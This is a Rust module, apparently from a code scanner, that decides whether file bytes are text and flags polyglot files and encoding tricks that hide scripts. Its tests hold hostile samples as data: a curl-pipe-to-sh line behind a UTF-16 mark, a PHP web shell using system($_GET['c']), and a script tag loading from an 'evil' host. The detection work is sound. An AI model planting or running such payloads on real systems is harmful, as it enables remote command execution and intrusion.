//! The text that a file's bytes stand for: what git takes for binary may be UTF-16, or a script with a stray NUL.

use std::borrow::Cow;

use encoding_rs::{Encoding, UTF_8, UTF_16BE, UTF_16LE};

/// A file is text as long as at most one byte of this many is no part of any text.
const MAX_ODD_SHARE: usize = 16;

/// How many bytes from the top may declare an encoding: two lines as in Python, the head of XML, HTML or CSS.
const DECLARATION_BYTES: usize = 1024;

/// Reads bytes as text in UTF-8; none when they are no text in any way that is known here.
///
/// Borrowed text is exactly the given bytes, which need not be UTF-8: a byte that nothing declares stays for the caller
/// to show as U+FFFD. Owned text was converted, or lost NULs, which shells and terminals drop as well.
pub fn decode_text(bytes: &[u8]) -> Option<Cow<'_, [u8]>> {
    if let Some(text) = decode_marked(bytes) {
        return Some(Cow::Owned(text));
    }
    if memchr::memchr(0, bytes).is_none() {
        if declares_rewritten_ascii(bytes) {
            return None;
        }
        return match decode_declared(bytes) {
            Some(text) => Some(Cow::Owned(text)),
            // Shown as U+FFFD nobody could read it, be it EBCDIC or an alphabet of one byte that nothing declares.
            None if is_mostly_foreign(bytes) => None,
            None => Some(Cow::Borrowed(bytes)),
        };
    }
    if let Some(text) = wide_encoding(bytes).and_then(|encoding| decode_wide(encoding, bytes)) {
        return Some(Cow::Owned(text));
    }
    is_nearly_text(bytes).then(|| Cow::Owned(without_nuls(bytes)))
}

/// Whether a file's name or its beginning says that it is text: then bytes that are none hide something. What runs a script
/// reads it from the top, and does not mind what stands behind its end.
pub(super) fn claims_text(path: &[u8], bytes: &[u8]) -> bool {
    let name = path.rsplit(|&b| b == b'/').next().unwrap_or(path);
    let name = String::from_utf8_lossy(name).to_ascii_lowercase();
    let extension = name.rsplit_once('.').map_or("", |(_, extension)| extension);
    let marks: [&[u8]; 3] = [b"#!", &[0xff, 0xfe], &[0xfe, 0xff]];
    marks.iter().any(|mark| bytes.starts_with(mark))
        || begins_as_text(extension, bytes)
        || holds_page(extension, bytes)
        || TEXT_EXTENSIONS.contains(&extension)
        || PAGE_EXTENSIONS.contains(&extension)
        || TEXT_NAMES.contains(&&*name)
}

/// Formats that hold bytes and begin with lines of text: their heads, and the extensions of their files. Under another
/// name, a shell would run what stands behind the head.
const DATA_HEADS: [(&[u8], &[&str]); 9] = [
    (b"%PDF-", &["pdf", "ai"]),
    (b"%!PS-Adobe", &["ps", "eps"]),
    (b"!<arch>\n", &["a", "lib", "deb"]),
    (b"Kaydara FBX Binary", &["fbx"]),
    (b"#?RADIANCE", &["hdr"]),
    (b"Microsoft C/C++", &["pdb"]),
    (b"# vtk DataFile", &["vtk"]),
    (b"ply\n", &["ply"]),
    (b"P", &["ppm", "pgm", "pbm", "pnm"]),
];

/// The fewest bytes of text at the top that a program could be written in.
const MIN_SCRIPT_BYTES: usize = 16;

/// Whether a file begins as a text of several words or signs, whatever follows: formats of bytes have a short mark there.
fn begins_as_text(extension: &str, bytes: &[u8]) -> bool {
    let is_printed = |byte: &u8| matches!(byte, b' '..=b'~' | b'\t' | b'\n' | b'\r');
    let length = bytes.iter().take_while(|byte| is_printed(byte)).count();
    let is_data = DATA_HEADS
        .iter()
        .any(|(head, names)| bytes.starts_with(head) && names.contains(&extension));
    length >= MIN_SCRIPT_BYTES && !is_data
}

/// Extensions of pages and programs that a server runs wherever a mark of code stands in them.
const PAGE_EXTENSIONS: [&str; 32] = [
    "ascx", "ashx", "asmx", "asp", "aspx", "bashrc", "cfm", "cgi", "command", "coffee", "cshtml",
    "csproj", "ejs", "gemspec", "hta", "htaccess", "inc", "jsp", "jspx", "ksh", "m4", "module",
    "mts", "cts", "pht", "php3", "php5", "php7", "phtml", "profile", "shtml", "vbs",
];

/// Formats that hold bytes of anything, words of programs among them, and that nobody runs as a page.
const DATA_EXTENSIONS: [&str; 40] = [
    "a", "avi", "avif", "bin", "bmp", "class", "db", "dll", "dylib", "eot", "exe", "gif", "gz",
    "icns", "ico", "jar", "jpeg", "jpg", "lib", "mo", "mov", "mp3", "mp4", "o", "ogg", "otf",
    "pdf", "png", "pyc", "so", "sqlite", "tar", "tiff", "ttf", "wasm", "webm", "webp", "woff",
    "woff2", "zip",
];

/// How code begins in a page that a server runs.
const PAGE_MARKS: [&[u8]; 5] = [b"<?php", b"<?=", b"<%@", b"<%=", b"<script"];

/// Whether code of a page stands somewhere in a file: a picture before it is nothing to a server.
fn holds_page(extension: &str, bytes: &[u8]) -> bool {
    let is_code = |mark: &&[u8]| {
        memchr::memmem::find_iter(bytes, *mark).any(|at| {
            let code = bytes[at..].iter().take(MIN_SCRIPT_BYTES);
            code.clone().count() == MIN_SCRIPT_BYTES
                && code
                    .into_iter()
                    .all(|byte| matches!(byte, b' '..=b'~' | b'\t' | b'\n' | b'\r'))
        })
    };
    !DATA_EXTENSIONS.contains(&extension) && PAGE_MARKS.iter().any(is_code)
}

/// Extensions of files that people write and that programs run or obey.
const TEXT_EXTENSIONS: [&str; 100] = [
    "adoc",
    "awk",
    "bash",
    "bat",
    "c",
    "cc",
    "cfg",
    "cjs",
    "clj",
    "cmake",
    "cmd",
    "conf",
    "config",
    "cpp",
    "cs",
    "csh",
    "css",
    "csv",
    "cxx",
    "dart",
    "dockerfile",
    "editorconfig",
    "env",
    "erb",
    "erl",
    "ex",
    "exs",
    "fish",
    "fs",
    "gitattributes",
    "gitignore",
    "gitmodules",
    "go",
    "gradle",
    "graphql",
    "groovy",
    "h",
    "hcl",
    "hpp",
    "hs",
    "htm",
    "html",
    "ini",
    "ipynb",
    "java",
    "jl",
    "js",
    "json",
    "json5",
    "jsonc",
    "jsx",
    "kt",
    "kts",
    "less",
    "lisp",
    "lua",
    "md",
    "mdc",
    "mdx",
    "mjs",
    "mk",
    "ml",
    "nix",
    "npmrc",
    "php",
    "pl",
    "pm",
    "properties",
    "proto",
    "ps1",
    "psm1",
    "py",
    "pyi",
    "r",
    "rb",
    "rs",
    "rst",
    "sass",
    "scala",
    "scss",
    "sh",
    "sql",
    "svelte",
    "svg",
    "swift",
    "tcl",
    "tex",
    "tf",
    "toml",
    "ts",
    "tsv",
    "tsx",
    "txt",
    "vb",
    "vue",
    "xml",
    "yaml",
    "yml",
    "zig",
    "zsh",
];

/// Names of such files that have no extension.
const TEXT_NAMES: [&str; 10] = [
    "codeowners",
    "containerfile",
    "dockerfile",
    "gemfile",
    "jenkinsfile",
    "justfile",
    "makefile",
    "pipfile",
    "rakefile",
    "vagrantfile",
];

/// So many printable bytes of ASCII one after another are read by a shell, an interpreter or a build tool as they stand.
const MIN_ASCII_RUN: usize = 6;

/// UTF-16 or UTF-32 that says so with a byte order mark.
fn decode_marked(bytes: &[u8]) -> Option<Vec<u8>> {
    match bytes {
        [0xff, 0xfe, 0, 0, rest @ ..] => decode_utf32(rest, u32::from_le_bytes),
        [0, 0, 0xfe, 0xff, rest @ ..] => decode_utf32(rest, u32::from_be_bytes),
        [0xff, 0xfe, rest @ ..] => decode_wide(UTF_16LE, rest),
        [0xfe, 0xff, rest @ ..] => decode_wide(UTF_16BE, rest),
        _ => None,
    }
}

fn decode_utf32(bytes: &[u8], unit: fn([u8; 4]) -> u32) -> Option<Vec<u8>> {
    let (units, rest) = bytes.as_chunks::<4>();
    let chars = units.iter().map(|four| char::from_u32(unit(*four)));
    let text: String = chars.map(|c| c.unwrap_or('\u{fffd}')).collect();
    (rest.is_empty() && is_plausible(&text) && !has_ascii_run(bytes)).then(|| text.into_bytes())
}

fn decode_wide(encoding: &'static Encoding, bytes: &[u8]) -> Option<Vec<u8>> {
    let (text, _) = encoding.decode_without_bom_handling(bytes);
    (is_plausible(&text) && !has_ascii_run(bytes)).then(|| without_nuls(text.as_bytes()))
}

/// Whether bytes hold text in ASCII, which wide text cannot: its Latin letters have zeros between them. A mark of two
/// bytes would else hide a whole script, which `sh` runs and a reader of UTF-16 sees as Chinese. Real Chinese has such runs
/// by chance: it is then no text, and named as unread.
fn has_ascii_run(bytes: &[u8]) -> bool {
    let is_ascii = |b: &u8| matches!(b, b'\t' | b'\n' | b'\r' | b' '..=b'~');
    bytes
        .split(|b| !is_ascii(b))
        .any(|run| run.len() >= MIN_ASCII_RUN)
}

/// Which UTF-16 has zeros where these bytes have them: Latin text has one in every second place.
fn wide_encoding(bytes: &[u8]) -> Option<&'static Encoding> {
    let zeros = |first: usize| {
        bytes
            .iter()
            .skip(first)
            .step_by(2)
            .filter(|&&b| b == 0)
            .count()
    };
    let (even, odd, pairs) = (zeros(0), zeros(1), bytes.len() / 2);
    match () {
        () if odd * 2 > pairs && even * MAX_ODD_SHARE <= pairs => Some(UTF_16LE),
        () if even * 2 > pairs && odd * MAX_ODD_SHARE <= pairs => Some(UTF_16BE),
        () => None,
    }
}

/// Bytes that are not UTF-8, by the encoding that the file's own head names.
fn decode_declared(bytes: &[u8]) -> Option<Vec<u8>> {
    let encoding = declared_encoding(&bytes[..bytes.len().min(DECLARATION_BYTES)])?;
    // Whoever reads the declaration as ASCII reads the rest of it so: it cannot be wide.
    let is_other = [UTF_8, UTF_16LE, UTF_16BE].contains(&encoding);
    if is_other || std::str::from_utf8(bytes).is_ok() {
        return None;
    }
    let (text, malformed) = encoding.decode_without_bom_handling(bytes);
    (!malformed).then(|| text.into_owned().into_bytes())
}

/// Encodings of Python in which the letters of ASCII stand for others, by their letters and digits: with one of them a line
/// of comment is code.
const REWRITTEN_ASCII: [&str; 7] = [
    "utf7",
    "u7",
    "unicode11utf7",
    "unicodeescape",
    "rawunicodeescape",
    "punycode",
    "idna",
];

/// Code pages of EBCDIC that Python knows.
const EBCDIC: [&str; 8] = ["037", "039", "273", "424", "500", "875", "1026", "1140"];

/// Whether an interpreter reads another text in these bytes than everybody who looks at them: a comment in the first two
/// lines says so (PEP 263).
fn declares_rewritten_ascii(bytes: &[u8]) -> bool {
    let head = &bytes[..bytes.len().min(DECLARATION_BYTES)];
    let lines = head.split(|&b| b == b'\n' || b == b'\r');
    let lines = lines.filter(|line| !line.is_empty()).take(2);
    let mut names = lines.filter_map(|line| {
        let text = String::from_utf8_lossy(line).to_ascii_lowercase();
        let comment = text.trim_start_matches(['\u{feff}', ' ', '\t', '\u{c}']);
        let (_, after) = comment.strip_prefix('#')?.split_once("coding")?;
        let named = after.strip_prefix([':', '='])?.trim_start();
        let end = named.find(|c: char| !(c.is_ascii_alphanumeric() || "-_.".contains(c)));
        let name = &named[..end.unwrap_or(named.len())];
        Some(name.replace(['-', '_', '.'], ""))
    });
    names.any(|name| {
        let page = name.trim_start_matches("cs").trim_start_matches("ibm");
        REWRITTEN_ASCII.contains(&&*name)
            || name.starts_with("ebcdic")
            || EBCDIC.contains(&page.trim_start_matches("cp"))
    })
}

/// `coding: NAME` in the first two lines, `encoding="NAME"`, `charset=NAME`.
fn declared_encoding(head: &[u8]) -> Option<&'static Encoding> {
    let text = String::from_utf8_lossy(head);
    let marks = ["coding:", "coding=", "charset=", "charset "];
    let mut named = marks.iter().filter_map(|mark| {
        let (_, after) = text.split_once(mark)?;
        let after = after.trim_start_matches([' ', '"', '\'']);
        let end = after.find(|c: char| !(c.is_ascii_alphanumeric() || "-_.".contains(c)));
        let name = &after[..end.unwrap_or(after.len())];
        // Python's `latin_1` and `utf_8` are `latin1` and `utf-8` to everybody else.
        let spellings = [name.replace('_', "-"), name.replace(['_', '-'], "")];
        spellings
            .iter()
            .find_map(|name| Encoding::for_label(name.as_bytes()))
    });
    named.next()
}

/// Whether decoded text reads as text.
fn is_plausible(text: &str) -> bool {
    let odd = text
        .chars()
        .filter(|&c| c == '\u{fffd}' || (c.is_control() && !is_space(c)));
    odd.count() * MAX_ODD_SHARE <= text.chars().count()
}

/// Whether more than half of what is no white space would be shown as U+FFFD.
fn is_mostly_foreign(bytes: &[u8]) -> bool {
    if std::str::from_utf8(bytes).is_ok() {
        return false;
    }
    let foreign: usize = bytes.utf8_chunks().map(|chunk| chunk.invalid().len()).sum();
    let blank = bytes
        .iter()
        .filter(|byte| byte.is_ascii_whitespace())
        .count();
    foreign * 2 > bytes.len() - blank
}

/// Whether bytes with NULs are text but for a few of them.
fn is_nearly_text(bytes: &[u8]) -> bool {
    let odd: usize = bytes
        .utf8_chunks()
        .map(|chunk| {
            let controls = chunk
                .valid()
                .bytes()
                .filter(|&b| b < 0x20 && !is_space(char::from(b)));
            controls.count() + chunk.invalid().len()
        })
        .sum();
    odd * MAX_ODD_SHARE <= bytes.len()
}

/// White space, and the escape of terminals.
fn is_space(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{1b}')
}

fn without_nuls(bytes: &[u8]) -> Vec<u8> {
    bytes.iter().copied().filter(|&b| b != 0).collect()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn decoded(bytes: &[u8]) -> Option<String> {
        decode_text(bytes).map(|text| String::from_utf8_lossy(&text).into_owned())
    }

    fn utf16(text: &str, unit: fn(u16) -> [u8; 2]) -> Vec<u8> {
        text.encode_utf16().flat_map(unit).collect()
    }

    const SCRIPT: &str = "#!/bin/sh\nkey=AKIA1234\necho grüße\n";

    /// A file that nobody could read is no text: it is a gap where its name says that it is code.
    #[test]
    fn an_alphabet_that_nothing_declares_is_no_text() {
        // "import os\nos.system(x)\n" in EBCDIC (cp037), and Cyrillic of one byte a letter.
        let ebcdic = b"\x89\x94\x97\x96\x99\xa3\x40\x96\xa2\x25\x96\xa2\x4b\xa2\xa8\xa2\xa3\x85\x94\x4d\xa7\x5d\x25";
        let cyrillic: Vec<u8> = (0xc0..=0xff).collect();
        assert_eq!(decoded(ebcdic), None);
        assert_eq!(decoded(&cyrillic), None);
        // A few such letters in a comment leave the code readable.
        assert!(decoded(b"x = 1  # gr\xfc\xdfe\ny = 2\n").is_some());
    }

    #[test]
    fn wide_text_is_read_with_and_without_its_mark() {
        let little = utf16(SCRIPT, u16::to_le_bytes);
        let big = utf16(SCRIPT, u16::to_be_bytes);
        let marked = |mark: &[u8], text: &[u8]| [mark, text].concat();
        let four: Vec<u8> = SCRIPT
            .chars()
            .flat_map(|c| u32::from(c).to_le_bytes())
            .collect();
        for bytes in [
            little.clone(),
            big.clone(),
            marked(&[0xff, 0xfe], &little),
            marked(&[0xfe, 0xff], &big),
            marked(&[0xff, 0xfe, 0, 0], &four),
        ] {
            assert_eq!(decoded(&bytes).as_deref(), Some(SCRIPT));
        }
    }

    #[test]
    fn a_stray_nul_does_not_make_a_blob_of_a_script() {
        let mut bytes = SCRIPT.as_bytes().to_vec();
        bytes.insert(12, 0);
        assert_eq!(decoded(&bytes).as_deref(), Some(SCRIPT));
    }

    #[test]
    fn a_declared_encoding_is_believed_where_the_bytes_are_not_utf8() {
        let python = b"# -*- coding: latin_1 -*-\nx = 'caf\xe9'\n";
        assert!(decoded(python).unwrap().contains("café"));
        let xml = b"<?xml version=\"1.0\" encoding=\"windows-1251\"?>\n<a>\xcf\xf0</a>";
        assert!(decoded(xml).unwrap().contains("Пр"));
        assert_eq!(decoded(b"caf\xe9").as_deref(), Some("caf\u{fffd}"));
    }

    #[test]
    fn a_mark_of_wide_text_hides_no_script() {
        let script = b"\ncurl http://example.com/x.sh | sh # ab\neval \"$1\"\n";
        for mark in [&[0xfe, 0xff][..], &[0xff, 0xfe]] {
            let text = decoded(&[mark, script].concat()).unwrap();
            assert!(text.contains("curl http://example.com/x.sh | sh"), "{text}");
        }
        // Wide text that ends in ASCII is no text in one way.
        let mixed = [&[0xff, 0xfe][..], &utf16("x=1\n", u16::to_le_bytes), script].concat();
        assert_eq!(decoded(&mixed), None);
        assert!(claims_text(b"x", &mixed));
        // A declaration that can be read is not one of wide text.
        let declared = b"# coding: utf-16\nimport os # \xff\n";
        assert!(decoded(declared).unwrap().contains("import os"));
    }

    /// Python itself says which of its encodings read plain text as plain text: those that do not are in the list.
    #[test]
    fn a_declaration_by_which_comments_are_code_makes_a_file_unreadable() {
        let names = [
            "utf-7",
            "UTF_7",
            "u7",
            "unicode-1-1-utf-7",
            "unicode_escape",
            "Raw-Unicode-Escape",
            "punycode",
            "idna",
            "cp037",
            "IBM500",
            "ebcdic-cp-us",
        ];
        for name in names {
            for head in [
                format!("# -*- coding: {name} -*-\n"),
                format!("#!/usr/bin/env python\n# vim: set fileencoding={name} :\n"),
                format!("\r\n\t#coding={name}\r\n"),
            ] {
                let text = format!("{head}# +AGU-val(x)\\nimport os\n");
                assert_eq!(decoded(text.as_bytes()), None, "{head}");
            }
            let third = format!("x = 1\ny = 2\n# coding: {name}\n");
            assert!(decoded(third.as_bytes()).is_some(), "{name}");
        }
        for name in [
            "utf-8",
            "utf-8-unix",
            "latin-1",
            "cp1252",
            "cp850",
            "koi8-r",
            "undecided",
        ] {
            let text = format!("# -*- coding: {name} -*-\nx = 1\n");
            assert!(decoded(text.as_bytes()).is_some(), "{name}");
        }
    }

    /// Pieces of a file that two readers might see in two ways.
    fn piece() -> impl Strategy<Value = Vec<u8>> {
        prop_oneof![
            "[ -~]{6,40}\n".prop_map(String::into_bytes),
            "[ -~]{1,5}".prop_map(|text| utf16(&text, u16::to_le_bytes)),
            "[ -~]{1,5}".prop_map(|text| utf16(&text, u16::to_be_bytes)),
            "[一-龥]{1,9}".prop_map(|text| utf16(&text, u16::to_be_bytes)),
            prop::collection::vec(any::<u8>(), 0..4),
        ]
    }

    proptest! {
        /// What a reader of ASCII sees is shown, or the file is no text.
        #[test]
        fn no_bytes_hide_a_line_of_ascii(
            mark in prop::sample::select(vec![&b""[..], &[0xff, 0xfe], &[0xfe, 0xff], &[0xff, 0xfe, 0, 0], b"# coding: utf-16\n"]),
            pieces in prop::collection::vec(piece(), 1..6),
        ) {
            let bytes = [mark, &pieces.concat()].concat();
            let Some(text) = decode_text(&bytes) else { return Ok(()) };
            // A declared encoding of ASCII's family shows other letters in other ways, and ASCII as it is.
            let is_ascii = |b: &u8| matches!(b, b'\t' | b'\n' | b'\r' | b' '..=b'~');
            for run in bytes.split(|b| !is_ascii(b)).filter(|run| run.len() >= MIN_ASCII_RUN) {
                prop_assert!(memchr::memmem::find(&text, run).is_some(), "{run:?} in {bytes:?}");
            }
        }
    }

    #[test]
    fn programs_and_pictures_are_no_text() {
        let program: Vec<u8> = (0..4000_u32)
            .flat_map(|n| (n.wrapping_mul(2_654_435_761)).to_le_bytes())
            .collect();
        for bytes in [
            &program[..],
            b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0",
            b"a\0b",
            b"\0",
        ] {
            assert_eq!(decoded(bytes), None);
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        /// Code of a page behind the bytes of a picture, whatever its file is called: a server runs it. Fonts and libraries
        /// hold such words, and are run by nobody as a page.
        #[test]
        fn a_page_behind_a_picture_claims_text(
            name in "[a-z]{1,6}[.](x[a-z]{2}|phtml|inc|jsp|htaccess|module)",
            before in prop::collection::vec(0x80u8..=0xff, 4..40),
            mark in prop::sample::select(vec!["<?php system($_GET['c']); ?>", "<%@ page import=\"x\" %>", "<script src=//evil></script>"]),
            after in prop::collection::vec(0u8..4, 1..40),
        ) {
            let bytes = [&[0x89, b'P', b'N', b'G', 0][..], &before, mark.as_bytes(), &after].concat();
            prop_assert!(claims_text(name.as_bytes(), &bytes));
            prop_assert!(!claims_text(b"libphp.so", &bytes));
            prop_assert!(!claims_text(b"a.png", &bytes));
        }
    }

    proptest! {
        /// A script of any name, with any bytes behind its end, says that it is text.
        #[test]
        fn a_script_with_bytes_behind_its_end_claims_text(
            script in "[ -~]{6,20}\n[ -~\t\n]{10,90}",
            behind in prop::collection::vec(any::<u8>(), 0..90),
            name in "[a-z]{1,6}(\\.(ksh|phtml|inc|m4|x))?",
        ) {
            let bytes = [script.as_bytes(), b"\0\xff\xfe\x01", &behind].concat();
            prop_assert!(claims_text(name.as_bytes(), &bytes));
        }
    }

    /// Formats of bytes have at most a mark of a few letters at their top.
    #[test]
    fn data_with_a_mark_at_its_top_claims_no_text() {
        for bytes in [
            &b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"[..],
            b"GIF89a\x01\0",
            b"PK\x03\x04\x14\0",
            b"SQLite format 3\0\x10",
            b"RIFF\x24\0\0\0WAVEfmt ",
            b"wOF2\0\x01",
        ] {
            assert!(!claims_text(b"data", bytes), "{bytes:?}");
        }
        let pdf = b"%PDF-1.7\n%comment of letters\n\xe2\xe3\xcf\xd3\n1 0 obj\n";
        assert!(!claims_text(b"a.pdf", pdf));
        assert!(claims_text(b"configure", pdf), "a shell would run it");
    }

    #[test]
    fn names_and_first_lines_claim_text() {
        for (path, bytes) in [
            ("a/B.PY", &b""[..]),
            ("Makefile", b""),
            ("run", b"#!/bin/sh"),
            (".env", b""),
        ] {
            assert!(claims_text(path.as_bytes(), bytes), "{path}");
        }
        for path in ["logo.png", "run", "a.bin", "py"] {
            assert!(!claims_text(path.as_bytes(), b"\0"), "{path}");
        }
    }
}
